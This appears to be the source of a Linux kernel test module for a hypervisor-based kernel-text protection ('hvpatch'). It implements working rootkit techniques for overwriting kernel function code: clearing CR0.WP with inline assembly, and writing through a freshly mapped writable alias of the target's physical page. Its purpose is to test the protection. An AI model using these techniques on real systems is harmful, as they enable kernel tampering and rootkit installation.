// SPDX-License-Identifier: GPL-2.0
/*
 * hvp_attack.ko: what a rootkit does to kernel text, for the demo and the
 * attacker's-view tests.  It is meant to fail: under hvpatch every attempt
 * is stopped (#GP in the guest, a log line and a count in the hypervisor).
 *
 *   mode=cr0     clear CR0.WP, then write the target through its own
 *                mapping (the classic way past write protection)
 *   mode=alias   map the target's physical page again, writable, with
 *                vmap(), and write through that alias
 *   mode=arena   write into the hvpatch arena through an alias
 *                (arena_gpa= its physical address, from hvpatchctl status)
 *
 * target= names a kernel function (from /proc/kallsyms, passed by the
 * caller as target_addr=), whose first byte is overwritten with int3.
 */
#include <linux/io.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/vmalloc.h>

static char *mode = "cr0";
module_param(mode, charp, 0444);
static unsigned long target_addr;
module_param(target_addr, ulong, 0444);
static unsigned long arena_gpa;
module_param(arena_gpa, ulong, 0444);

static void write_with_wp_clear(u8 *where)
{
	unsigned long cr0;

	asm volatile("mov %%cr0, %0" : "=r"(cr0));
	pr_info("hvp_attack: clearing CR0.WP (cr0 %#lx)\n", cr0);
	/* Straight to the register: native_write_cr0() would put WP back. */
	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~X86_CR0_WP) : "memory");
	pr_info("hvp_attack: CR0.WP cleared, writing %px\n", where);
	WRITE_ONCE(*where, 0xcc);
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
}

static void write_through_alias(phys_addr_t phys)
{
	struct page *page = pfn_to_page(phys >> PAGE_SHIFT);
	u8 *alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);

	if (!alias) {
		pr_err("hvp_attack: vmap failed\n");
		return;
	}
	pr_info("hvp_attack: writing phys %pa through a fresh writable alias %px\n",
		&phys, alias + offset_in_page(phys));
	WRITE_ONCE(alias[offset_in_page(phys)], 0xcc);
	vunmap(alias);
}

static int __init hvp_attack_init(void)
{
	if (!strcmp(mode, "cr0") && target_addr)
		write_with_wp_clear((u8 *)target_addr);
	else if (!strcmp(mode, "alias") && target_addr)
		write_through_alias(__pa_symbol(target_addr));
	else if (!strcmp(mode, "arena") && arena_gpa)
		write_through_alias(arena_gpa);
	else
		return -EINVAL;
	/* Only reached if the write went through. */
	pr_err("hvp_attack: WRITE SUCCEEDED (mode %s): kernel text is NOT protected\n", mode);
	return -EPERM;
}

module_init(hvp_attack_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("hvpatch test: attempts to write protected kernel memory");
